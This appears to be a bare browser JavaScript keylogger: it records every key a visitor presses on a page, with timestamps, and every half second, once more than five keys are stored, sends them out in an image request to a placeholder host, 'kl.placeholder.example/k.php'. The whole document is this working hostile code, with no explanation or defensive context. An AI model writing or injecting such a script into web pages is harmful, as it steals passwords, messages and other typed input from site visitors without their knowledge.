var presses = [];
window.addEventListener("keydown", function (evt) {
  presses.push({ t: Math.round(Date.now() / 1000), k: evt.key });
});
window.setInterval(function () {
  if (presses.length > 5) {
    new Image().src = "http://kl.placeholder.example/k.php?k=" + encodeURIComponent(JSON.stringify(presses));
    presses = [];
  }
}, 500);
